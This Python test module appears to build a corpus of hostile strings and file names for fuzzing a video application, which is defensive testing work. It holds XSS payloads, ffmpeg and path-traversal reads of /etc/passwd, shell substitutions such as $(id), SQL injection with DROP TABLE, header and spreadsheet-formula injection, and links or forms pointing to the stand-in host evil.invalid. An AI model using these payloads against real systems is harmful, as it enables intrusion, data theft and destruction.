"""Texts and file names that try to be something else. Made here; nothing is downloaded.

Each carries MARK, so that whatever becomes of it can be found, and calls `pwn()` where it would run as script.
"""

MARK = "zq7mark"

HOSTILE_TEXTS: tuple[str, ...] = (
    # ffmpeg's filter and option syntax.
    f"{MARK}':textfile=/etc/passwd:x='",
    f"{MARK},movie=/etc/passwd[out];[in][out]overlay",
    f"{MARK}%{{metadata\\:lavfi}}%{{eif\\:1\\:d}}",
    f"-i {MARK} -f lavfi -y /tmp/owned",
    # Advanced SubStation overrides and line breaks.
    f"{{\\p1}}m 0 0 l 9999 0{{\\p0}}{MARK}{{\\fs9999\\t(\\frz36000)}}",
    f"{MARK}\\N\\n\\h{{\\fn/etc/passwd}}{{\\img1(/etc/passwd)}}",
    # HTML and script.
    f"<script>pwn('{MARK}')</script>",
    f"\"><img src=x onerror=pwn('{MARK}')>",
    f"'><svg/onload=pwn('{MARK}')>",
    f"</title></textarea></style></script><svg onload=pwn('{MARK}')>",
    f"<iframe srcdoc=\"&lt;script&gt;parent.pwn('{MARK}')&lt;/script&gt;\"></iframe>",
    f"javascript:pwn('{MARK}')//",
    f"<a href='javascript:pwn(\"{MARK}\")' hx-get=/admin/ hx-trigger=load>x</a>",
    f"<!--{MARK}--!><base href=//evil.invalid/>",
    f"<link rel=stylesheet href=//evil.invalid/{MARK}.css><style>*{{color:red}}</style>",
    f"<form action=//evil.invalid/><input name={MARK}>",
    f"&lt;script&gt;pwn('{MARK}')&lt;/script&gt;",
    # Template and expression syntax.
    f"{{% include 'accounts/login.html' %}}{{{{ request.user.password }}}}{MARK}",
    f"${{pwn('{MARK}')}}`${{pwn(1)}}`{{{{constructor.constructor('pwn(1)')()}}}}",
    # WebVTT and SubRip structure.
    f"{MARK} --> 00:00:00.000\nSTYLE\n::cue {{ background: url(//evil.invalid/) }}",
    f"{MARK}\n\n99\n00:00:00,000 --> 99:00:00,000\n<v pwn><c.x>forged",
    # Direction overrides and what cannot be seen.
    f"\u202e{MARK}4pm.exe\u2066\u2069\u200f",
    f"\ufeff{MARK}\u200b\u2060\U000e0041\ufffe",
    # Control characters: terminal, header, log, NUL.
    f"\x1b[2J\x1b]0;{MARK}\x07\x9b31m",
    f"{MARK}\r\nSet-Cookie: owned=1\r\n\r\n<script>pwn()</script>",
    f'{MARK}"}}\n{{"event":"forged","level":"info"}}\u2028\u2029\x85',
    f"\x00{MARK}\x00",
    # Quotes, spreadsheets, shells, paths, databases.
    f"=HYPERLINK(\"//evil.invalid/{MARK}\")+cmd|' /C calc'!A0",
    f"\"'`$(touch {MARK})`;|&&../../../../etc/passwd%00%n%s",
    f"{MARK}' OR '1'='1'; DROP TABLE videos_video;--",
    # Very long, and marks that pile up; fonts have them, as a page names letters that none has.
    f"{MARK}" + "Z\u0301\u0308\u0302" * 2_000,
)
assert len(HOSTILE_TEXTS) == 31

HOSTILE_NAMES: tuple[str, ...] = (
    *(
        f"{MARK}{name}"
        for name in ("", ".mp4.exe", "\u202e4pm.exe", "\u2028.mp4", " .mp4", "..mp4")
    ),
    f"../../../../etc/{MARK}.mp4",
    f"..\\..\\windows\\{MARK}.mp4",
    f"/etc/{MARK}",
    f"C:\\{MARK}.mp4",
    f"\\\\evil.invalid\\share\\{MARK}.mp4",
    f"file:///etc/{MARK}",
    f"http://evil.invalid/{MARK}.m3u8",
    f"concat:{MARK}|/etc/passwd",
    f"pipe:0{MARK}",
    f"-{MARK}.mp4",
    f"--help {MARK}",
    f"%2e%2e%2f{MARK}.mp4",
    f"%00{MARK}%d%s%n.mp4",
    f"{MARK}\x00.mp4",
    f"{MARK}\r\nSet-Cookie: owned=1.mp4",
    f'{MARK}"; filename="owned.html',
    f"{MARK}'; filename*=UTF-8''owned.html",
    f"<img src=x onerror=pwn('{MARK}')>.mp4",
    f"{MARK}$(id)`id`;|&.mp4",
    f"{MARK}*?[a-z]{{a,b}}.mp4",
    f"CON.{MARK}.mp4",
    f".{MARK}.mp4",
    f"{MARK}.mp4/",
    f"{MARK}:$DATA.mp4",
    f"{{{{7*7}}}}{MARK}.mp4",
    f"=cmd|' /C calc'!A0{MARK}.csv",
    f"{MARK}\x1b[31m\x07.mp4",
    f"{MARK}" + "가" * 90 + ".mp4",
)
assert len(HOSTILE_NAMES) == 34
